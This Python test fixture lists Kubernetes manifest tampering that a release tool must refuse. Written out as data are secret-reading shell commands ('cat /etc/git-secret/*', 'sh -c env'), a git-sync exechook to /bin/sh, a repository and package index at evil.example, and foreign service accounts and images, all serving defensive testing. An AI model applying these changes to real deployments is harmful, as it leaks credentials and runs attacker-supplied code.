"""What `ops` must not do to a release: changes of one that it may make, and how each is refused."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from playground_ops.render.names import OPS_ACCOUNT, PACKAGES_USER

Object = dict[str, Any]
Change = Callable[[Object], None]


def spec(found: Object) -> Object:
    return dict(found["spec"]) if found["kind"] == "Pod" else dict(found["spec"]["template"]["spec"])


def volume(source: Object) -> Change:
    return lambda found: spec(found)["volumes"].append({"name": "extra", **source})


def variable(secret: str) -> Change:
    reference = {"name": "X", "valueFrom": {"secretKeyRef": {"name": secret, "key": "k"}}}
    return lambda found: spec(found)["containers"][0]["env"].append(reference)


def every_variable(found: Object) -> None:
    spec(found)["containers"][0]["envFrom"] = [{"secretRef": {"name": "foreign"}}]


def pull(found: Object) -> None:
    found["spec"]["template"]["spec"]["imagePullSecrets"] = [{"name": "foreign"}]


def account(name: str) -> Change:
    def change(found: Object) -> None:
        found["spec"]["template"]["spec"]["serviceAccountName"] = name

    return change


def token(**source: str) -> Change:
    return volume({"projected": {"sources": [{"serviceAccountToken": {"path": "token", **source}}]}})


def image(found: Object) -> None:
    spec(found)["containers"][0]["image"] = "elsewhere/evil:1"


def credentials_for_the_code(found: Object) -> None:
    mount = {"name": "git-secret", "mountPath": "/x"}
    spec(found)["containers"][0]["volumeMounts"].append(mount)


def fetch_elsewhere(found: Object) -> None:
    arguments = spec(found)["initContainers"][0]["args"]
    arguments[0] = "--repo=https://evil.example/x.git"


def fetch_and_run(found: Object) -> None:
    spec(found)["initContainers"][0]["args"].append("--exechook-command=/bin/sh")


def fetch_by_shell(found: Object) -> None:
    spec(found)["initContainers"][0]["command"] = ["sh", "-c", "cat /etc/git-secret/*", "resolve"]


def fetch_by_another_ssh(found: Object) -> None:
    spec(found)["initContainers"][0]["env"].append({"name": "GIT_SSH_COMMAND", "value": "sh -c env"})


def fetch_with_what_a_config_map_says(found: Object) -> None:
    source = {"configMapKeyRef": {"name": "x", "key": "y"}}
    spec(found)["initContainers"][0]["env"].append({"name": "GITSYNC_USERNAME", "valueFrom": source})


def fetch_with_another_git(found: Object) -> None:
    spec(found)["volumes"].append({"name": "programs", "configMap": {"name": "x"}})
    spec(found)["initContainers"][0]["volumeMounts"].append({"name": "programs", "mountPath": "/usr/bin"})


def fetch_at_home_elsewhere(found: Object) -> None:
    (home,) = [one for one in spec(found)["volumes"] if one["name"] == "fetch-tmp"]
    del home["emptyDir"]
    home["configMap"] = {"name": "x"}


def prepare_for_the_fetch(found: Object) -> None:
    before = {**spec(found)["containers"][0], "name": "before"}
    del before["startupProbe"], before["readinessProbe"], before["livenessProbe"]
    spec(found)["initContainers"].insert(0, before)


def credentials_of_the_index_for_the_code(found: Object) -> None:
    mount = {"name": "packages-secret", "mountPath": "/x"}
    spec(found)["containers"][0]["volumeMounts"].append(mount)


def install_by_shell(found: Object) -> None:
    spec(found)["initContainers"][1]["command"][2] = "cat /etc/packages-secret/*"


def install_from_elsewhere(found: Object) -> None:
    spec(found)["initContainers"][1]["env"].append({"name": "UV_INDEX", "value": "https://evil.example"})


def install_with_what_a_config_map_says(found: Object) -> None:
    spec(found)["initContainers"][1]["envFrom"] = [{"configMapRef": {"name": "x"}}]


def install_with_other_programs(found: Object) -> None:
    spec(found)["volumes"].append({"name": "programs", "configMap": {"name": "x"}})
    spec(found)["initContainers"][1]["volumeMounts"].append({"name": "programs", "mountPath": "/usr/bin"})


def prepare_for_the_install(found: Object) -> None:
    before = {**spec(found)["containers"][0], "name": "before"}
    del before["startupProbe"], before["readinessProbe"], before["livenessProbe"]
    spec(found)["initContainers"].insert(1, before)


def install_and_tell(found: Object) -> None:
    hook = {"exec": {"command": ["sh", "-c", "cat /etc/packages-secret/*"]}}
    # Only init containers that go on may have hooks.
    spec(found)["initContainers"][1] |= {"lifecycle": {"postStart": hook}, "restartPolicy": "Always"}


def be_whom_environments_belong_to(found: Object) -> None:
    spec(found)["containers"][0]["securityContext"]["runAsUser"] = PACKAGES_USER


def all_be_whom_environments_belong_to(found: Object) -> None:
    spec(found)["securityContext"]["runAsUser"] = PACKAGES_USER


REFUSED: list[tuple[Change, str]] = [
    (image, "an image that the configuration does not name: elsewhere/evil:1"),
    (volume({"secret": {"secretName": "foreign"}}), "a volume of a Secret"),
    (volume({"secret": {"secretName": "dagster-postgres"}}), "a volume of a Secret"),
    (volume({"secret": {"secretName": "shell-files"}}), "a volume of a Secret"),
    (volume({"secret": {"secretName": "database-ca"}}), "a volume of a Secret"),
    (
        volume({"projected": {"sources": [{"secret": {"name": "foreign"}}]}}),
        "a kind of volume that the stack has none of",
    ),
    (token(), "a kind of volume that the stack has none of"),
    (token(audience="https://kubernetes.default.svc"), "a kind of volume that the stack has none of"),
    (variable("foreign"), "a variable from a Secret"),
    (variable("web-git"), "a variable from a Secret"),
    (every_variable, "variables from a Secret"),
    (pull, "a pull secret"),
    (account(OPS_ACCOUNT), f"the service account {OPS_ACCOUNT}"),
    (account("another"), "the service account another"),
    (credentials_for_the_code, "git credentials in a container that does not fetch"),
    (fetch_elsewhere, "a repository that is not configured"),
    (fetch_and_run, "a command of git-sync that the stack does not use"),
    (fetch_by_shell, "a command of git-sync that the stack does not use"),
    (fetch_by_another_ssh, "a variable of git-sync that the stack does not use"),
    (fetch_with_what_a_config_map_says, "a variable of git-sync that the stack does not use"),
    (fetch_with_another_git, "a volume of git-sync that the stack does not use"),
    (fetch_at_home_elsewhere, "a volume of git-sync that the stack does not use"),
    (credentials_of_the_index_for_the_code, "credentials of the package index in a container that does not"),
    (install_by_shell, "credentials of the package index in a container that does not install"),
    (install_from_elsewhere, "a variable of what installs packages that the stack does not use"),
    (install_with_what_a_config_map_says, "a variable of what installs packages that the stack does not use"),
    (install_with_other_programs, "a volume of what installs packages that the stack does not use"),
    (prepare_for_the_install, "what installs packages beside another container"),
    (install_and_tell, "a hook or a probe of what installs packages"),
    (be_whom_environments_belong_to, "the user that environments belong to"),
    (all_be_whom_environments_belong_to, "the user that environments belong to"),
    (prepare_for_the_fetch, "git-sync after or beside another container"),
]
